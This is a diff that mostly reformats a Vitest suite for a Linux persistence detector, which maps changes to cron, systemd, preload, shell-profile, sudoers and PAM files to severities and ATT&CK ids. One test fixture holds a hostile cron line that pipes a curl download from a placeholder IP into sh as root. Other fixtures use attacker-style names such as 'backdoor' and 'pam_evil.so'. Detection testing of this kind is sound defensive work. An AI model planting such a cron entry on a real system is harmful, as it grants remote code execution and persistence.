@@ -1,5 +1,17 @@
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { appendFileSync, chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import {
+  appendFileSync,
+  chmodSync,
+  copyFileSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  unlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import def from './index.ts';
@@ -40,9 +52,15 @@ describe('persistence pure logic', () => {
 
   it('finds accounts, privileged group members and multiarch folders', () => {
     const passwd = 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbroken\n';
-    expect(parseAccounts(passwd)).toEqual([{ name: 'root', uid: 0, home: '/root' }, { name: 'alice', uid: 1000, home: '/home/alice' }]);
+    expect(parseAccounts(passwd)).toEqual([
+      { name: 'root', uid: 0, home: '/root' },
+      { name: 'alice', uid: 1000, home: '/home/alice' },
+    ]);
     expect(groupMembers('sudo:x:27:alice,bob\nusers:x:100:carol\n', ['sudo'])).toEqual({ members: new Set(['alice', 'bob']), gids: new Set([27]) });
-    expect(multiarchDirs('/usr/lib', ['x86_64-linux-gnu', 'aarch64-linux-gnu', 'python3', 'systemd'])).toEqual(['/usr/lib/x86_64-linux-gnu', '/usr/lib/aarch64-linux-gnu']);
+    expect(multiarchDirs('/usr/lib', ['x86_64-linux-gnu', 'aarch64-linux-gnu', 'python3', 'systemd'])).toEqual([
+      '/usr/lib/x86_64-linux-gnu',
+      '/usr/lib/aarch64-linux-gnu',
+    ]);
   });
 
   it('keeps an excerpt of text and none of binary content', () => {
@@ -55,27 +73,66 @@ describe('persistence pure logic', () => {
     const locs = persistenceLocations(['/home/alice'], ['/root'], ['/usr/lib/x86_64-linux-gnu']);
     const paths = locs.map((l) => l.path);
     for (const p of [
-      '/etc/cron.d', '/etc/cron.daily', '/etc/cron.hourly', '/etc/cron.weekly', '/etc/cron.monthly', '/var/spool/cron/crontabs', '/etc/crontab',
-      '/etc/systemd/system', '/lib/systemd/system', '/home/alice/.config/systemd/user', '/etc/ld.so.preload', '/etc/rc.local', '/etc/profile.d',
-      '/root/.bashrc', '/etc/sudoers', '/etc/sudoers.d', '/etc/pam.d', '/usr/lib/x86_64-linux-gnu/security',
-    ]) expect(paths).toContain(p);
+      '/etc/cron.d',
+      '/etc/cron.daily',
+      '/etc/cron.hourly',
+      '/etc/cron.weekly',
+      '/etc/cron.monthly',
+      '/var/spool/cron/crontabs',
+      '/etc/crontab',
+      '/etc/systemd/system',
+      '/lib/systemd/system',
+      '/home/alice/.config/systemd/user',
+      '/etc/ld.so.preload',
+      '/etc/rc.local',
+      '/etc/profile.d',
+      '/root/.bashrc',
+      '/etc/sudoers',
+      '/etc/sudoers.d',
+      '/etc/pam.d',
+      '/usr/lib/x86_64-linux-gnu/security',
+    ])
+      expect(paths).toContain(p);
     expect(paths).not.toContain('/home/alice/.bashrc');
   });
 
   it('gives each change its type, severity and technique', () => {
     const e = { origin: 'admin' as const, kind: 'file' as const, mode: 0o100644, uid: 0, gid: 0, size: 10, mtimeMs: 1, ctimeMs: 1, ino: 1 };
-    expect(fileMeaning({ path: '/etc/cron.d/x', change: 'added', new: { ...e, category: 'cron' } })).toMatchObject({ type: 'cron_job_added', severity: 'high', mitre: 'T1053.003' });
-    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload' } })).toMatchObject({ type: 'preload_set', severity: 'critical', mitre: 'T1574.006' });
-    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload', size: 0 } })).toMatchObject({ type: 'preload_cleared', severity: 'low' });
-    expect(fileMeaning({ path: '/lib/systemd/system/x.service', change: 'added', new: { ...e, category: 'systemd', origin: 'vendor' } })).toMatchObject({ type: 'systemd_unit_added', severity: 'medium' });
+    expect(fileMeaning({ path: '/etc/cron.d/x', change: 'added', new: { ...e, category: 'cron' } })).toMatchObject({
+      type: 'cron_job_added',
+      severity: 'high',
+      mitre: 'T1053.003',
+    });
+    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload' } })).toMatchObject({
+      type: 'preload_set',
+      severity: 'critical',
+      mitre: 'T1574.006',
+    });
+    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload', size: 0 } })).toMatchObject({
+      type: 'preload_cleared',
+      severity: 'low',
+    });
+    expect(fileMeaning({ path: '/lib/systemd/system/x.service', change: 'added', new: { ...e, category: 'systemd', origin: 'vendor' } })).toMatchObject({
+      type: 'systemd_unit_added',
+      severity: 'medium',
+    });
     expect(fileMeaning({ path: '/lib/systemd/system/x.service', change: 'changed', new: { ...e, category: 'systemd', origin: 'vendor' } })).toBeUndefined();
-    expect(suidMeaning('/tmp/.x/sh', { mode: 0o104755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({ type: 'suid_binary_added', severity: 'critical', mitre: 'T1548.001' });
-    expect(suidMeaning('/usr/bin/x', { mode: 0o102755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({ severity: 'high', what: 'SGID file' });
+    expect(suidMeaning('/tmp/.x/sh', { mode: 0o104755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({
+      type: 'suid_binary_added',
+      severity: 'critical',
+      mitre: 'T1548.001',
+    });
+    expect(suidMeaning('/usr/bin/x', { mode: 0o102755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({
+      severity: 'high',
+      what: 'SGID file',
+    });
   });
 
   it('the README lists every event type with its severity and ATT&CK id', () => {
     const readme = readFileSync(join(import.meta.dirname, 'README.md'), 'utf8');
-    const rows = new Map([...readme.matchAll(/^\| `([a-z_]+)` \| ([^|]+) \| (T\d{4}(?:\.\d{3})?) \|/gm)].map((m) => [m[1]!, { severity: m[2]!, mitre: m[3]! }]));
+    const rows = new Map(
+      [...readme.matchAll(/^\| `([a-z_]+)` \| ([^|]+) \| (T\d{4}(?:\.\d{3})?) \|/gm)].map((m) => [m[1]!, { severity: m[2]!, mitre: m[3]! }]),
+    );
     const types = new Set(['kernel_module_loaded', 'suid_binary_added', 'suid_binary_changed', 'suid_binary_removed']);
     for (const r of Object.values(FILE_RULES)) for (const t of Object.values(r.type)) types.add(t);
     for (const t of types) {
@@ -152,22 +209,86 @@ describe('persistence on real files (a host tree under a temporary root)', () =>
   // Each location: created, modified, deleted — one event each with its type and severity.
   const cases: { path: string; types: [string, string, string]; severity: [string, string, string]; mitre: string; mode?: number }[] = [
     { path: '/etc/cron.d/backdoor', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
-    { path: '/etc/cron.daily/update', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003', mode: 0o755 },
+    {
+      path: '/etc/cron.daily/update',
+      types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1053.003',
+      mode: 0o755,
+    },
     { path: '/etc/cron.hourly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
     { path: '/etc/cron.weekly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
     { path: '/etc/cron.monthly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
-    { path: '/var/spool/cron/crontabs/www-data', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003', mode: 0o600 },
-    { path: '/etc/systemd/system/dbus-helper.service', types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'], severity: ['high', 'high', 'low'], mitre: 'T1543.002' },
-    { path: '/etc/systemd/system/multi-user.target.wants/x.service', types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'], severity: ['high', 'high', 'low'], mitre: 'T1543.002' },
-    { path: '/home/alice/.config/systemd/user/agent.service', types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'], severity: ['high', 'high', 'low'], mitre: 'T1543.002' },
+    {
+      path: '/var/spool/cron/crontabs/www-data',
+      types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1053.003',
+      mode: 0o600,
+    },
+    {
+      path: '/etc/systemd/system/dbus-helper.service',
+      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1543.002',
+    },
+    {
+      path: '/etc/systemd/system/multi-user.target.wants/x.service',
+      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1543.002',
+    },
+    {
+      path: '/home/alice/.config/systemd/user/agent.service',
+      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1543.002',
+    },
     { path: '/etc/ld.so.preload', types: ['preload_set', 'preload_set', 'preload_cleared'], severity: ['critical', 'critical', 'low'], mitre: 'T1574.006' },
-    { path: '/etc/rc.local', types: ['rc_local_changed', 'rc_local_changed', 'rc_local_changed'], severity: ['high', 'high', 'low'], mitre: 'T1037.004', mode: 0o755 },
-    { path: '/etc/profile.d/zz.sh', types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'], severity: ['high', 'high', 'low'], mitre: 'T1546.004' },
-    { path: '/root/.bash_profile', types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'], severity: ['high', 'high', 'low'], mitre: 'T1546.004' },
-    { path: '/home/alice/.profile', types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'], severity: ['high', 'high', 'low'], mitre: 'T1546.004' },
-    { path: '/etc/sudoers.d/90-x', types: ['sudoers_changed', 'sudoers_changed', 'sudoers_changed'], severity: ['high', 'high', 'medium'], mitre: 'T1548.003', mode: 0o440 },
-    { path: '/etc/pam.d/common-session', types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'], severity: ['high', 'high', 'medium'], mitre: 'T1556.003' },
-    { path: '/usr/lib/x86_64-linux-gnu/security/pam_evil.so', types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'], severity: ['high', 'high', 'medium'], mitre: 'T1556.003' },
+    {
+      path: '/etc/rc.local',
+      types: ['rc_local_changed', 'rc_local_changed', 'rc_local_changed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1037.004',
+      mode: 0o755,
+    },
+    {
+      path: '/etc/profile.d/zz.sh',
+      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1546.004',
+    },
+    {
+      path: '/root/.bash_profile',
+      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1546.004',
+    },
+    {
+      path: '/home/alice/.profile',
+      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
+      severity: ['high', 'high', 'low'],
+      mitre: 'T1546.004',
+    },
+    {
+      path: '/etc/sudoers.d/90-x',
+      types: ['sudoers_changed', 'sudoers_changed', 'sudoers_changed'],
+      severity: ['high', 'high', 'medium'],
+      mitre: 'T1548.003',
+      mode: 0o440,
+    },
+    {
+      path: '/etc/pam.d/common-session',
+      types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'],
+      severity: ['high', 'high', 'medium'],
+      mitre: 'T1556.003',
+    },
+    {
+      path: '/usr/lib/x86_64-linux-gnu/security/pam_evil.so',
+      types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'],
+      severity: ['high', 'high', 'medium'],
+      mitre: 'T1556.003',
+    },
   ];
 
   it('every location: created, modified, deleted', async () => {
@@ -195,14 +316,19 @@ describe('persistence on real files (a host tree under a temporary root)', () =>
     await det.gather!(r.acc);
     h.put('/etc/cron.d/backdoor', '* * * * * root curl -s http://198.51.100.7/x | sh\n');
     await det.gather!(r.acc);
-    expect(r.events[0]).toMatchObject({ message: 'cron job added: /etc/cron.d/backdoor', evidence: { change: 'added', category: 'cron', content: '* * * * * root curl -s http://198.51.100.7/x | sh\n', new_mode: '0644' } });
+    expect(r.events[0]).toMatchObject({
+      message: 'cron job added: /etc/cron.d/backdoor',
+      evidence: { change: 'added', category: 'cron', content: '* * * * * root curl -s http://198.51.100.7/x | sh\n', new_mode: '0644' },
+    });
     chmodSync(join(h.root, 'etc/sudoers.d/README'), 0o666);
     r.events.length = 0;
     await det.gather!(r.acc);
-    expect(r.events).toEqual([expect.objectContaining({ type: 'sudoers_changed', evidence: expect.objectContaining({ old_mode: '0440', new_mode: '0666', change: 'changed' }) })]);
+    expect(r.events).toEqual([
+      expect.objectContaining({ type: 'sudoers_changed', evidence: expect.objectContaining({ old_mode: '0440', new_mode: '0666', change: 'changed' }) }),
+    ]);
   });
 
-  it('package folders: an added unit is medium, its change or removal is not reported; an unprivileged user\'s rc file is not watched', async () => {
+  it("package folders: an added unit is medium, its change or removal is not reported; an unprivileged user's rc file is not watched", async () => {
     const det = h.make();
     const r = record();
     await det.gather!(r.acc);
@@ -335,7 +461,11 @@ describe('persistence on the real /etc (files created and removed by this test)'
     const r = record();
     await det.gather!(r.acc);
     expect(r.events).toEqual([]);
-    const mine = () => r.events.filter((e) => paths.includes(String(e.evidence!.path))).map((e) => `${e.type} ${String(e.evidence!.path)}`).sort();
+    const mine = () =>
+      r.events
+        .filter((e) => paths.includes(String(e.evidence!.path)))
+        .map((e) => `${e.type} ${String(e.evidence!.path)}`)
+        .sort();
     for (const p of paths) writeFileSync(p, '# canh test, safe to delete\n');
     await det.gather!(r.acc);
     expect(mine()).toEqual([`cron_job_added ${paths[0]}`, `shell_profile_changed ${paths[2]}`, `systemd_unit_added ${paths[1]}`]);
